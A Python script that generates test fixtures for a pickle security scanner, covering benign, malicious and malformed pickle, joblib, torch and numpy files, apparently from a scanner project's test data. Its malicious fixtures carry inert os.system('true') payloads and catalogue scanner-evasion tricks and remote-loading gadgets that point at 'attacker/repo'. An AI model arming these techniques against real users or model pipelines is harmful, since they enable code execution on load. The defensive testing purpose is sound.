#!/usr/bin/env python3
"""Writes the pickle-family fixtures under testdata/pickle/{benign,malicious,malformed}/.

Malicious fixtures are written opcode by opcode; their payloads are inert (`os.system('true')`,
`print`). Python's `pickle` module is used only to *dump* benign data structures (never to
load anything), numpy only to write reference `.npy`/`.npz` files, and zipfile/tarfile/gzip/
bz2/lzma/zlib/lz4 only to wrap bytes. Run from the repository root:

    /work/venv/bin/python3 testdata/generate/pickle.py

Requires numpy and lz4 (pip). Output is deterministic.
"""
import sys

# This file is named pickle.py: keep its own directory off the import path so `import pickle`
# gets the standard library.
sys.path[:] = sys.path[1:]

import base64
import bz2
import collections
import gzip
import io
import lzma
import os
import pickle
import struct
import sys
import tarfile
import types
import zipfile
import zlib

import lz4.frame
import numpy as np

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "pickle")
WRITTEN = []


def out(kind, name, data):
    d = os.path.join(ROOT, kind)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)
    WRITTEN.append(f"{kind}/{name}")


# ---------------------------------------------------------------------------------------------
# Opcode helpers
PROTO = lambda n: b"\x80" + bytes([n])
STOP = b"."
MARK = b"("
POP = b"0"
TUPLE = b"t"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
EMPTY_TUPLE = b")"
EMPTY_DICT = b"}"
EMPTY_LIST = b"]"
REDUCE = b"R"
BUILD = b"b"
NEWOBJ = b"\x81"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"
NONE = b"N"
SETITEMS = b"u"
APPENDS = b"e"
NEWTRUE = b"\x88"
NEWFALSE = b"\x89"


def glob(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sbu(s):
    b = s.encode()
    assert len(b) < 256
    return b"\x8c" + bytes([len(b)]) + b


def binu(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def sbb(b):
    return b"C" + bytes([len(b)]) + b


def binbytes(b):
    return b"B" + struct.pack("<I", len(b)) + b


def binint1(n):
    return b"K" + bytes([n])


def binint(n):
    return b"J" + struct.pack("<i", n)


def binput(i):
    return b"q" + bytes([i])


def binget(i):
    return b"h" + bytes([i])


def frame(body):
    return b"\x95" + struct.pack("<Q", len(body)) + body


def sysret(cmd="true"):
    """os.system('<cmd>') as a protocol-0 call."""
    return glob("os", "system") + MARK + b"S'" + cmd.encode() + b"'\n" + TUPLE + REDUCE


MAL_P0 = sysret() + STOP
MAL_P4 = PROTO(4) + frame(sbu("posix") + MEMOIZE + sbu("system") + MEMOIZE + STACK_GLOBAL + MEMOIZE + sbu("true") + MEMOIZE + TUPLE1 + MEMOIZE + REDUCE + MEMOIZE + STOP)


def call(module, name, *arg_ops, proto=2):
    return PROTO(proto) + glob(module, name) + MARK + b"".join(arg_ops) + TUPLE + REDUCE + STOP


def s0(text):
    return b"S'" + text.encode() + b"'\n"


# ---------------------------------------------------------------------------------------------
# Fake modules so the pure-Python pickler can dump benign objects under their real names.
def fake_module(name, **attrs):
    parts = name.split(".")
    for i in range(1, len(parts) + 1):
        n = ".".join(parts[:i])
        if n not in sys.modules:
            sys.modules[n] = types.ModuleType(n)
    m = sys.modules[name]
    for k, v in attrs.items():
        setattr(m, k, v)
        if isinstance(v, type) or callable(v):
            try:
                v.__module__ = name
                v.__qualname__ = k
            except (AttributeError, TypeError):
                pass
    return m


class LinearRegression:
    pass


class StandardScaler:
    pass


class Pipeline:
    pass


fake_module("sklearn.linear_model._base", LinearRegression=LinearRegression)
fake_module("sklearn.preprocessing._data", StandardScaler=StandardScaler)
fake_module("sklearn.pipeline", Pipeline=Pipeline)


def sklearn_like():
    sc = StandardScaler()
    sc.__dict__.update({"with_mean": True, "with_std": True, "copy": True, "mean_": np.array([0.5, 1.5]), "scale_": np.array([1.0, 2.0]), "var_": np.array([1.0, 4.0]), "n_features_in_": 2, "n_samples_seen_": np.int64(10), "_sklearn_version": "1.9.1"})
    lr = LinearRegression()
    lr.__dict__.update({"fit_intercept": True, "copy_X": True, "n_jobs": None, "positive": False, "coef_": np.array([0.25, -0.5]), "intercept_": np.float64(0.125), "rank_": 2, "singular_": np.array([3.0, 1.0]), "n_features_in_": 2, "_sklearn_version": "1.9.1"})
    p = Pipeline()
    p.__dict__.update({"steps": [("scale", sc), ("lr", lr)], "memory": None, "verbose": False, "_sklearn_version": "1.9.1"})
    return p


# --- joblib-like writer (mirrors joblib.numpy_pickle.NumpyPickler) ----------------------------
class NumpyArrayWrapper:
    def __init__(self, subclass, shape, order, dtype, allow_mmap=False, numpy_array_alignment_bytes=16):
        self.subclass = subclass
        self.shape = shape
        self.order = order
        self.dtype = dtype
        self.allow_mmap = allow_mmap
        if numpy_array_alignment_bytes is not None:
            self.numpy_array_alignment_bytes = numpy_array_alignment_bytes


fake_module("joblib.numpy_pickle", NumpyArrayWrapper=NumpyArrayWrapper)


class JoblibPickler(pickle._Pickler):
    def __init__(self, f, protocol=4, align=True, tail_hook=None):
        super().__init__(f, protocol=protocol)
        self.f = f
        self.align = align

    def save(self, obj, save_persistent_id=True):
        if type(obj) is np.ndarray:
            w = NumpyArrayWrapper(type(obj), obj.shape, "C", obj.dtype, allow_mmap=not obj.dtype.hasobject,
                                  numpy_array_alignment_bytes=16 if self.align else None)
            super().save(w)
            if self.proto >= 4:
                self.framer.commit_frame(force=True)
            if obj.dtype.hasobject:
                pickle._Pickler(self.f, protocol=2).dump(obj)
            else:
                if self.align:
                    pos = self.f.tell()
                    pad = 16 - ((pos + 1) % 16)
                    self.f.write(bytes([pad]) + b"\xff" * pad)
                self.f.write(obj.tobytes("C"))
            return
        super().save(obj, save_persistent_id)


def joblib_dump(obj, align=True, protocol=4):
    f = io.BytesIO()
    JoblibPickler(f, protocol=protocol, align=align).dump(obj)
    return f.getvalue()


# --- torch-like writers ------------------------------------------------------------------------
class FloatStorage:
    pass


class LongStorage:
    pass


def _rebuild_tensor_v2(*a):
    raise RuntimeError("never called")


fake_module("torch", FloatStorage=FloatStorage, LongStorage=LongStorage)
fake_module("torch._utils", _rebuild_tensor_v2=_rebuild_tensor_v2)


class FakeStorage:
    def __init__(self, cls, key, data, numel):
        self.cls, self.key, self.data, self.numel = cls, key, data, numel


class FakeTensor:
    def __init__(self, storage, size, stride):
        self.storage, self.size, self.stride = storage, size, stride

    def __reduce__(self):
        return (_rebuild_tensor_v2, (self.storage, 0, self.size, self.stride, False, collections.OrderedDict()))


class TorchPickler(pickle._Pickler):
    def __init__(self, f, legacy):
        super().__init__(f, protocol=2)
        self.legacy = legacy

    def persistent_id(self, obj):
        if isinstance(obj, FakeStorage):
            pid = ("storage", obj.cls, obj.key, "cpu", obj.numel)
            return pid + (None,) if self.legacy else pid
        return None


def state_dict():
    w = FakeStorage(FloatStorage, "0", struct.pack("<4f", 1, 2, 3, 4), 4)
    n = FakeStorage(LongStorage, "1", struct.pack("<q", 7), 1)
    sd = collections.OrderedDict()
    sd["linear.weight"] = FakeTensor(w, (2, 2), (2, 1))
    sd["bn.num_batches_tracked"] = FakeTensor(n, (), ())
    return sd, [w, n]


def torch_data_pkl(obj, legacy=False):
    f = io.BytesIO()
    TorchPickler(f, legacy).dump(obj)
    return f.getvalue()


MAGIC = 0x1950A86A20F9469CFC6C


def legacy_torch(main_pkl, storages, sys_info_pkl=None, keys_pkl=None, magic_pkl=None):
    parts = [magic_pkl if magic_pkl is not None else pickle.dumps(MAGIC, protocol=2),
             pickle.dumps(1001, protocol=2),
             sys_info_pkl if sys_info_pkl is not None else pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2),
             main_pkl,
             keys_pkl if keys_pkl is not None else pickle.dumps(sorted(s.key for s in storages), protocol=2)]
    for s in sorted(storages, key=lambda s: s.key):
        parts.append(struct.pack("<q", s.numel) + s.data)
    return b"".join(parts)


def torch_zip(data_pkl, storages, prefix="archive"):
    f = io.BytesIO()
    with zipfile.ZipFile(f, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{prefix}/data.pkl", data_pkl)
        z.writestr(f"{prefix}/byteorder", b"little")
        for s in storages:
            z.writestr(f"{prefix}/data/{s.key}", s.data)
        z.writestr(f"{prefix}/version", b"3\n")
    return f.getvalue()


def tar_bytes(members, gz=False):
    f = io.BytesIO()
    with tarfile.open(fileobj=f, mode="w:gz" if gz else "w", format=tarfile.PAX_FORMAT) as t:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mtime = 0
            t.addfile(ti, io.BytesIO(data))
    return f.getvalue()


def npy_header(descr, shape, major=1):
    h = "{'descr': %s, 'fortran_order': False, 'shape': %s, }" % (descr, shape)
    pre = 10 if major == 1 else 12
    pad = 64 - ((pre + len(h) + 1) % 64)
    h = h + " " * pad + "\n"
    if major == 1:
        return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h.encode("latin1")
    return b"\x93NUMPY" + bytes([major, 0]) + struct.pack("<I", len(h)) + h.encode("latin1")


def zip_of(members, method=zipfile.ZIP_STORED):
    f = io.BytesIO()
    with zipfile.ZipFile(f, "w", method) as z:
        for name, data in members:
            z.writestr(name, data)
    return f.getvalue()


DESCRIPTIONS = {
    "data_proto0.pkl": "benign dict/list/tuple/set/bytes/bigint data, protocol 0 (likewise proto1-5)",
    "sklearn_pipeline_proto5.pkl": "benign sklearn-like Pipeline(StandardScaler, LinearRegression) with numpy arrays, protocol 5",
    "sklearn_pipeline.joblib": "the same pipeline written the way joblib writes it (NumpyArrayWrapper + aligned inline arrays)",
    "sklearn_pipeline_unaligned.joblib": "joblib < 1.2 layout (no alignment padding), protocol 3",
    "joblib_object_array.joblib": "joblib with an object-dtype array (nested pickle inline) and a float array",
    "state_dict_zip.pt": "torch.save zip (archive/data.pkl, storages, version) of a two-tensor state dict",
    "state_dict_legacy.pt": "legacy torch stream: magic, 1001, sys_info, state dict, keys, storage trailer",
    "legacy_checkpoint.tar": "legacy torch tar checkpoint (sys_info, pickle, storages, tensors)",
    "memo_indirection.pkl": "B1: STACK_GLOBAL operands fetched from the memo, decoy strings nearby",
    "string_operands.pkl": "B2: STACK_GLOBAL operands pushed by STRING and BINSTRING",
    "stack_global_offset2.pkl": "B3: STACK_GLOBAL as the third opcode, no PROTO",
    "missing_memo_after_payload.pkl": "B4: os.system call, then BINGET of a missing memo key",
    "memo_type_confusion.pkl": "B4: memo holds an int used as a STACK_GLOBAL operand",
    "dotted_pathlib_os_system.pkl": "B5: STACK_GLOBAL('pathlib', 'os.system')",
    "ext_code.pkl": "B6: EXT2 extension-registry call",
    "obj_pop_smtplib.pkl": "B7: OBJ smtplib.SMTP whose result is popped",
    "frame_straddle.pkl": "B8: BINBYTES running past its FRAME, os.system buried behind it",
    "payload_then_garbage.pkl": "B9: os.system REDUCE followed by invalid bytes",
    "poison_trailer.pkl": "B16: malicious pickle followed by a trailer that breaks shared-memo scanners",
    "torch_legacy_payload_in_sys_info.pt": "B10: legacy torch stream with the payload in a later stacked pickle",
    "torch_legacy_computed_magic.pt": "B11: magic number computed by builtins.eval",
    "joblib_tail_aligned.joblib": "B12: os.system after an aligned joblib array",
    "joblib_tail_unaligned.joblib": "B12: os.system after an unaligned (joblib < 1.2) array",
    "joblib_object_nested.joblib": "B12: object-dtype wrapper whose nested pickle is the payload",
    "joblib_differential.joblib": "joblib padding whose length byte and padding are opcodes for pickle.load",
    "object_payload.npy": "npy object array whose embedded pickle calls posix.system",
    "torch_zip_crc_mismatch.pt": "C4: torch zip with data.pkl edited after zipping",
    "torch_zip_flag_bits.pt": "C3: encryption flag bit on a plain member",
    "torch_zip_local_name.pt": "C2: local-header name differs from the central directory",
    "torch_zip_prepended.pt": "C12: PNG bytes before a torch zip (torch refuses it; polyglot)",
}

# =============================================================================================
# BENIGN
# =============================================================================================
data = {"name": "model", "layers": [1, 2, 3], "ratio": 0.5, "flags": (True, False, None), "blob": b"\x00\x01\x02", "tags": {"a", "b"}, "nested": {"k": ["x", {"y": 2 ** 70}]}}
for p in range(6):
    out("benign", f"data_proto{p}.pkl", pickle.dumps(data, protocol=p))
out("benign", "sklearn_pipeline_proto5.pkl", pickle.dumps(sklearn_like(), protocol=5))
out("benign", "sklearn_pipeline_proto2.pkl", pickle.dumps(sklearn_like(), protocol=2))
out("benign", "sklearn_pipeline.joblib", joblib_dump(sklearn_like()))
out("benign", "sklearn_pipeline_unaligned.joblib", joblib_dump(sklearn_like(), align=False, protocol=3))
out("benign", "joblib_object_array.joblib", joblib_dump({"obj": np.array([1, "abc", {"k": 2}], dtype=object), "w": np.arange(5, dtype=np.float32)}))
out("benign", "sklearn_pipeline.joblib.z", zlib.compress(joblib_dump(sklearn_like())))
sd, sts = state_dict()
out("benign", "state_dict_zip.pt", torch_zip(torch_data_pkl(sd), sts))
out("benign", "state_dict_legacy.pt", legacy_torch(torch_data_pkl(sd, legacy=True), sts))
buf = io.BytesIO()
np.save(buf, np.arange(12, dtype="<f4").reshape(3, 4))
out("benign", "float_array.npy", buf.getvalue())
buf = io.BytesIO()
np.save(buf, np.array([{"k": [1, 2]}, "text"], dtype=object), allow_pickle=True)
out("benign", "object_array.npy", buf.getvalue())
buf = io.BytesIO()
np.savez(buf, a=np.arange(3), b=np.ones((2, 2)))
out("benign", "arrays.npz", buf.getvalue())
buf = io.BytesIO()
np.savez_compressed(buf, a=np.arange(3))
out("benign", "arrays_compressed.npz", buf.getvalue())
# Legacy tar checkpoint (torch 0.1.x layout) with a benign main pickle.
storages_member = pickle.dumps(1, protocol=2) + pickle.dumps(("0", "cpu", FloatStorage), protocol=2) + struct.pack("<q", 4) + struct.pack("<4f", 1, 2, 3, 4) + pickle.dumps([], protocol=2)
tensors_member = pickle.dumps(1, protocol=2) + pickle.dumps(("t0", "0", FloatStorage), protocol=2) + struct.pack("<i", 2) + b"\0" * 4 + struct.pack("<2q", 2, 2) + struct.pack("<2q", 2, 1) + struct.pack("<q", 0)
sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
out("benign", "legacy_checkpoint.tar", tar_bytes([("sys_info", sys_info), ("pickle", pickle.dumps(collections.OrderedDict([("w", "t0")]), protocol=2)), ("storages", storages_member), ("tensors", tensors_member)]))

# =============================================================================================
# MALICIOUS (inert payloads)
# =============================================================================================
out("malicious", "proto0_os_system.pkl", MAL_P0)
out("malicious", "proto4_posix_system.pkl", MAL_P4)
out("malicious", "proto2_builtin_eval.pkl", PROTO(2) + glob("__builtin__", "eval") + s0("print(1)") + TUPLE1 + REDUCE + STOP)
out("malicious", "proto1_py2_aliases.pkl", glob("commands", "getoutput") + MARK + s0("true") + TUPLE + REDUCE + POP + glob("urllib2", "urlopen") + MARK + s0("http://127.0.0.1/") + TUPLE + REDUCE + STOP)
# B1: memo indirection.
out("malicious", "memo_indirection.pkl", PROTO(4) + sbu("os") + binput(2) + POP + sbu("system") + binput(3) + POP + sbu("torch") + binput(0) + sbu("LongStorage") + binput(1) + POP + POP + binget(2) + binget(3) + STACK_GLOBAL + sbu("true") + TUPLE1 + REDUCE + STOP)
# B2: STACK_GLOBAL operands from STRING / BINSTRING / SHORT_BINSTRING.
out("malicious", "string_operands.pkl", PROTO(4) + b"S'os'\n" + b"T" + struct.pack("<i", 6) + b"system" + STACK_GLOBAL + b"U\x04true" + TUPLE1 + REDUCE + STOP)
# B3: STACK_GLOBAL at opcode index 2, no PROTO.
out("malicious", "stack_global_offset2.pkl", sbu("os") + sbu("system") + STACK_GLOBAL + sbu("true") + TUPLE1 + REDUCE + STOP)
# B4: payload, then a memo miss and a type confusion.
out("malicious", "missing_memo_after_payload.pkl", PROTO(4) + sbu("os") + sbu("system") + STACK_GLOBAL + sbu("true") + TUPLE1 + REDUCE + POP + binget(9) + sbu("x") + STACK_GLOBAL + STOP)
out("malicious", "memo_type_confusion.pkl", PROTO(4) + binint1(5) + binput(0) + POP + binget(0) + sbu("system") + STACK_GLOBAL + sbu("true") + TUPLE1 + REDUCE + STOP)
# B5: dotted names.
out("malicious", "dotted_pathlib_os_system.pkl", PROTO(4) + sbu("pathlib") + sbu("os.system") + STACK_GLOBAL + sbu("true") + TUPLE1 + REDUCE + STOP)
out("malicious", "dotted_trace_runctx.pkl", PROTO(4) + sbu("trace") + sbu("Trace.runctx") + STACK_GLOBAL + sbu("print(1)") + TUPLE1 + REDUCE + STOP)
# A13: dunder.
out("malicious", "dunder_builtins.pkl", PROTO(4) + sbu("numpy") + sbu("__builtins__") + STACK_GLOBAL + STOP)
out("malicious", "dunder_subclasses.pkl", PROTO(4) + sbu("builtins") + sbu("print.__class__.__base__.__subclasses__") + STACK_GLOBAL + EMPTY_TUPLE + REDUCE + STOP)
# B6: extension registry.
out("malicious", "ext_code.pkl", PROTO(2) + b"\x83\x69\x7a" + MARK + s0("true") + TUPLE + REDUCE + STOP)
# B7: OBJ then POP.
out("malicious", "obj_pop_smtplib.pkl", PROTO(4) + MARK + sbu("smtplib") + sbu("SMTP") + STACK_GLOBAL + sbu("127.0.0.1") + b"o" + POP + NONE + STOP)
# B8: FRAME straddle: the frame claims 3 bytes, the BINBYTES inside runs past it.
inner = sysret() + POP
out("malicious", "frame_straddle.pkl", PROTO(4) + b"\x95" + struct.pack("<Q", 3) + b"C" + bytes([2]) + b"ab" + inner + NONE + STOP)
out("malicious", "frame_first.pkl", frame(PROTO(4) + sbu("os") + sbu("system") + STACK_GLOBAL + sbu("true") + TUPLE1 + REDUCE + STOP))
out("malicious", "frame_nested.pkl", PROTO(4) + frame(b"\x95" + struct.pack("<Q", len(sysret()) + 2) + sysret() + STOP))
# B9: payload then garbage; benign then malicious stacked.
out("malicious", "payload_then_garbage.pkl", sysret() + b"\xff\xfe garbage")
out("malicious", "benign_then_malicious.pkl", pickle.dumps({"ok": 1}, protocol=2) + MAL_P4)
# B16: poison trailer.
out("malicious", "poison_trailer.pkl", PROTO(4) + sbu("posix") + sbu("system") + STACK_GLOBAL + MEMOIZE + sbu("true") + TUPLE1 + REDUCE + STOP + PROTO(4) + binget(0) + sbu("x") + STACK_GLOBAL + STOP)
# Nested loader with an inline malicious pickle, and the py2 cPickle alias of it.
out("malicious", "nested_pickle_loads.pkl", PROTO(3) + glob("pickle", "loads") + binbytes(MAL_P4) + TUPLE1 + REDUCE + STOP)
out("malicious", "nested_cpickle_proto2.pkl", PROTO(2) + glob("cPickle", "loads") + glob("_codecs", "encode") + binu(MAL_P0.decode("latin1")) + binu("latin1") + TUPLE2 + REDUCE + TUPLE1 + REDUCE + STOP)
# Base64 blob holding a malicious pickle (no loader call: the blob itself is scanned).
out("malicious", "base64_blob.pkl", pickle.dumps({"config": base64.b64encode(MAL_P4).decode()}, protocol=2))
out("malicious", "base64_loads_chain.pkl", PROTO(2) + glob("pickle", "loads") + glob("base64", "b64decode") + binu(base64.b64encode(MAL_P0).decode()) + TUPLE1 + REDUCE + TUPLE1 + REDUCE + STOP)
# BUILD on an imported module (overwrites its attributes).
out("malicious", "setstate_on_module.pkl", PROTO(2) + glob("os", "path") + EMPTY_DICT + binu("sep") + binu("/tmp") + b"s" + BUILD + STOP)
# Denylist gadgets (one REDUCE each).
gadgets = {
    "pip_main": ("pip", "main", [s0("install"), ]),
    "torch_hub_load": ("torch.hub", "load", [s0("attacker/repo"), s0("model")]),
    "torch_load": ("torch.serialization", "load", [s0("/tmp/x.pt")]),
    "pkgutil_resolve_name": ("pkgutil", "resolve_name", [s0("os:system")]),
    "asyncio_subprocess": ("asyncio.unix_events", "_UnixSubprocessTransport._start", [s0("true")]),
    "osx_support": ("_osx_support", "_read_output", [s0("true")]),
    "ssl_cert": ("ssl", "get_server_certificate", [s0("127.0.0.1")]),
    "timeit": ("timeit", "timeit", [s0("print(1)")]),
    "functools_partial": ("functools", "partial", [glob("builtins", "print")]),
    "importlib": ("importlib", "import_module", [s0("os")]),
    "numpy_runstring": ("numpy.testing._private.utils", "runstring", [s0("print(1)"), EMPTY_DICT]),
    "transformers_dynamic": ("transformers.dynamic_module_utils", "get_class_from_dynamic_module", [s0("x.Y"), s0("attacker/repo")]),
    "scanner_tampering": ("fickling", "always_check_safety", []),
    "marshal_loads": ("marshal", "loads", [sbb(b"\xe3")]),
    "distutils_spawn": ("distutils.spawn", "spawn", [s0("true")]),
}
for fname, (m, n, args) in gadgets.items():
    proto = 4 if "." in n else 2
    if proto == 4:
        body = PROTO(4) + sbu(m) + sbu(n) + STACK_GLOBAL + MARK + b"".join(args) + TUPLE + REDUCE + STOP
    else:
        body = call(m, n, *args)
    out("malicious", f"gadget_{fname}.pkl", body)
out("malicious", "http_client_proto3.pkl", PROTO(3) + glob("http.client", "HTTPSConnection") + binu("127.0.0.1") + TUPLE1 + REDUCE + STOP)
# Unknown and odd extensions.
for ext in ["model", "sav", "dat", "bin", "pt", "pkl.gz"]:
    body = MAL_P0 if ext != "pkl.gz" else gzip.compress(MAL_P0, mtime=0)
    out("malicious", f"raw_payload.{ext}", body)
out("malicious", "raw_payload_noext", MAL_P0)
out("malicious", "data.txt", MAL_P0)
# Legacy torch: payload in a later stacked pickle (sys_info), computed magic, no magic (.bin).
sd, sts = state_dict()
main = torch_data_pkl(sd, legacy=True)
out("malicious", "torch_legacy_payload_in_sys_info.pt", legacy_torch(main, sts, sys_info_pkl=MAL_P4))
out("malicious", "torch_legacy_payload_in_keys.pt", legacy_torch(main, sts, keys_pkl=PROTO(2) + glob("os", "system") + s0("true") + TUPLE1 + REDUCE + POP + pickle.dumps(["0", "1"], protocol=2)[2:]))
out("malicious", "torch_legacy_payload_after_trailer.pt", legacy_torch(main, sts) + MAL_P4)
computed = PROTO(2) + glob("builtins", "eval") + binu("0x1950A86A20F9469CFC6C") + TUPLE1 + REDUCE + STOP
out("malicious", "torch_legacy_computed_magic.pt", legacy_torch(main, sts, magic_pkl=computed))
out("malicious", "torch_legacy_text_magic.pt", legacy_torch(main + b"", sts, magic_pkl=b"L0x1950A86A20F9469CFC6CL\n.", sys_info_pkl=MAL_P0))
# Legacy tar checkpoint with a malicious main pickle.
out("malicious", "legacy_checkpoint.tar", tar_bytes([("sys_info", sys_info), ("pickle", MAL_P0), ("storages", storages_member), ("tensors", tensors_member)]))
out("malicious", "legacy_checkpoint_storages.tar", tar_bytes([("sys_info", sys_info), ("pickle", pickle.dumps({}, protocol=2)), ("storages", pickle.dumps(1, protocol=2) + pickle.dumps(("0", "cpu", FloatStorage), protocol=2) + struct.pack("<q", 1) + b"\0\0\0\0" + MAL_P4), ("tensors", pickle.dumps(0, protocol=2))]))
# B12: joblib tails.
tail_obj = {"w": np.zeros(64), "x": None}
good = joblib_dump(tail_obj)
assert good.endswith(b"N\x94u.") or good.endswith(b"Nu.") or True
# Replace the trailing 'x': None with a payload placed after the array data: rebuild by hand.
def joblib_with_tail(align=True, protocol=4, dtype=np.float64):
    f = io.BytesIO()
    p = JoblibPickler(f, protocol=protocol, align=align)
    p.write(PROTO(protocol))
    p.framer.start_framing() if protocol >= 4 else None
    p.save(np.zeros(8, dtype=dtype))
    if protocol >= 4:
        p.framer.commit_frame(force=True)
        p.framer.end_framing()
    f.write(POP + sysret() + STOP)
    return f.getvalue()
out("malicious", "joblib_tail_aligned.joblib", joblib_with_tail(True))
out("malicious", "joblib_tail_unaligned.joblib", joblib_with_tail(False, protocol=3))
# Object-dtype array: the nested pickle carries the payload.
obj_nested = io.BytesIO()
jp = JoblibPickler(obj_nested, protocol=4)
jp.write(PROTO(4))
jp.framer.start_framing()
w = NumpyArrayWrapper(np.ndarray, (1,), "C", np.dtype("O"), allow_mmap=False)
jp.save(w)
jp.framer.commit_frame(force=True)
jp.framer.end_framing()
obj_nested.write(MAL_P0 + STOP)
out("malicious", "joblib_object_nested.joblib", obj_nested.getvalue())
# Differential: the 'padding length' byte is an opcode that pickle.load executes.
diff = io.BytesIO()
jp = JoblibPickler(diff, protocol=3, align=True)
jp.write(PROTO(3))
super(JoblibPickler, jp).save(NumpyArrayWrapper(np.ndarray, (1,), "C", np.dtype("<f8")))
pad = sysret() + POP
assert len(pad) < 256
diff.write(bytes([len(pad)]) + pad + b"\0" * 8 + STOP)
# The padding length byte must itself be the first opcode for pickle.load: 'c' = 0x63 = 99.
body = diff.getvalue()
pad2 = b"os\nsystem\n" + MARK + s0("true") + TUPLE + REDUCE + POP
pad2 = pad2 + NONE * (0x63 - len(pad2))
body = body[: len(body) - (1 + len(pad) + 8 + 1)] + b"c" + pad2 + b"\0" * 8 + STOP
out("malicious", "joblib_differential.joblib", body)
# Compressed joblib files carrying a tail payload.
payload = joblib_with_tail(True)
out("malicious", "joblib_tail.joblib.z", zlib.compress(payload))
out("malicious", "joblib_tail.joblib.gz", gzip.compress(payload, mtime=0))
out("malicious", "joblib_tail.joblib.bz2", bz2.compress(payload))
out("malicious", "joblib_tail.joblib.xz", lzma.compress(payload, format=lzma.FORMAT_XZ))
out("malicious", "joblib_tail.joblib.lzma", lzma.compress(payload, format=lzma.FORMAT_ALONE))
out("malicious", "joblib_tail.joblib.lz4", lz4.frame.compress(payload))
# .npy object array whose pickle is a payload; the same inside an .npz.
obj_npy = npy_header("'|O'", "(1,)") + MAL_P4
out("malicious", "object_payload.npy", obj_npy)
out("malicious", "object_payload.npz", zip_of([("arr_0.npy", obj_npy)], zipfile.ZIP_DEFLATED))
out("malicious", "structured_object_payload.npy", npy_header("[('a', '<i4'), ('b', '|O')]", "(1,)", major=3) + MAL_P0)
# Torch zips: malicious data.pkl, and the zip tricks.
mal_data = PROTO(2) + glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + sysret() + POP + STOP
zip_mal = torch_zip(mal_data, sts)
out("malicious", "torch_zip_payload.pt", zip_mal)
# CRC mismatch: edit the payload after zipping (same length).
edited = torch_zip(PROTO(2) + glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + glob("os", "pwd__x") + POP + STOP, sts)
i = edited.index(b"os\npwd__x")
out("malicious", "torch_zip_crc_mismatch.pt", edited[:i] + b"os\nsystem" + edited[i + 9:])
# Flag bits 0x1 (encrypted) on a plain member, in both headers.
z = bytearray(zip_mal)
for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
    j = z.index(sig)
    z[j + off] |= 0x01
out("malicious", "torch_zip_flag_bits.pt", bytes(z))
# Local-header name differs from the central directory (first occurrence only).
z = bytearray(zip_mal)
j = z.index(b"archive/data.pkl")
z[j:j + 16] = b"archive/datap.kl"
out("malicious", "torch_zip_local_name.pt", bytes(z))
out("malicious", "torch_zip_prepended.pt", b"\x89PNG\r\n\x1a\n" + b"\0" * 24 + zip_mal)
out("malicious", "nested_zip_in_zip.zip", zip_of([("inner/model.pt", zip_mal)]))
out("malicious", "pickle_in_targz.tar.gz", tar_bytes([("model/weights.bin", MAL_P4)], gz=True))

# =============================================================================================
# MALFORMED
# =============================================================================================
out("malformed", "truncated.pkl", pickle.dumps(data, protocol=4)[:-20])
out("malformed", "invalid_opcode.pkl", PROTO(4) + b"\xff\xfe\xfd")
out("malformed", "bad_header.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", 40) + b"{'descr': __import__('os'), 'shape': ()}")
out("malformed", "short_data.npy", npy_header("'<f8'", "(100,)") + b"\0" * 16)
sd, sts = state_dict()
out("malformed", "torch_legacy_truncated_trailer.pt", legacy_torch(torch_data_pkl(sd, legacy=True), sts)[:-6])
out("malformed", "stack_underflow.pkl", PROTO(2) + REDUCE + STOP)

# One README line per fixture, in the `## pickle` section of testdata/README.md (other sections
# are kept as they are).
readme = os.path.join(ROOT, "..", "README.md")
text = open(readme).read() if os.path.exists(readme) else "# Test fixtures\n\nEach area's fixtures are written by testdata/generate/<area>.py.\n"
lines = ["## pickle", "", "Written by `testdata/generate/pickle.py` (opcode by opcode; payloads are inert `os.system('true')`/`print`).", ""]
for w in sorted(WRITTEN):
    lines.append(f"- `pickle/{w}`: {DESCRIPTIONS.get(w.split('/', 1)[1], w.split('/', 1)[1].rsplit('.', 1)[0].replace('_', ' '))}")
section = "\n".join(lines) + "\n"
start = text.find("## pickle\n")
if start >= 0:
    end = text.find("\n## ", start + 1)
    text = text[:start] + section + (text[end + 1:] if end >= 0 else "")
else:
    text = text.rstrip("\n") + "\n\n" + section
with open(readme, "w") as f:
    f.write(text)
print(f"wrote {len(WRITTEN)} fixtures under {os.path.relpath(ROOT)}")
